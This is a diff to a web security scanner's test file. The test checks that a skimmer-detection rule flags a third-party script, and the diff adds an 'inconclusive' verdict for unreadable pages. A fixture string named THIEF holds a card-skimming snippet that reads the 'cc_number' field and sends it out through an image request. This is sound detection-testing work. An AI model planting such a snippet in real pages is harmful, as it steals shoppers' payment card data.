@@ -27,7 +27,7 @@ from scanner.gatherers.http.third_party import ForeignHosts
 from scanner.gatherers.net.dns import Dns
 from scanner.gatherers.net.pace import Paces
 from scanner.gatherers.net.resolver import NoSuchName
-from scanner.rules.verdicts import Found, Passed
+from scanner.rules.verdicts import Found, Inconclusive, Passed
 from scanner.scope.budget import Budget
 from scanner.scope.target import Target
 from scanner.settings.options import ScanOptions
@@ -385,14 +385,14 @@ THIEF = "var n=document.getElementById('cc_number').value;new Image().src='https
 
 
 @pytest.mark.parametrize(
-    ("answer", "found"),
+    ("answer", "verdict"),
     [
-        (response(BODY + THIEF.encode(), headers=SHARED), True),
-        (response(BODY, headers=SHARED), False),
-        (response(b"", "503 Service Unavailable"), False),
+        (response(BODY + THIEF.encode(), headers=SHARED), Found),
+        (response(BODY, headers=SHARED), Passed),
+        (response(b"", "503 Service Unavailable"), Inconclusive),
     ],
 )
-async def test_a_whole_scan_reads_others_scripts(answer: bytes, found: bool) -> None:
+async def test_a_whole_scan_reads_others_scripts(answer: bytes, verdict: type[Found | Inconclusive | Passed]) -> None:
     home = f'<title>Shop</title><a href="/roses">Roses</a><script src="http://{CDN}/w.js"></script>'.encode()
     html = "Content-Type: text/html\r\n"
 
@@ -420,7 +420,7 @@ async def test_a_whole_scan_reads_others_scripts(answer: bytes, found: bool) -> 
         order = Order(target, loaded.chosen(["skimmer-indicator"]), ScanOptions(rate=1000))
         result = (await scan(order, loaded, resolve=no_names)).result
     (judged,) = result.judged
-    assert isinstance(judged.verdict, Found if found else Passed)
-    assert [one.finding.subject for one in result.findings] == ([f"http://{CDN}/w.js"] if found else [])
+    assert isinstance(judged.verdict, verdict)
+    assert [one.finding.subject for one in result.findings] == ([f"http://{CDN}/w.js"] if verdict is Found else [])
     # What could not be read this time is not called fixed: its page does not count as examined.
     assert ("/" in judged.verdict.examined) is (b"503" not in answer)
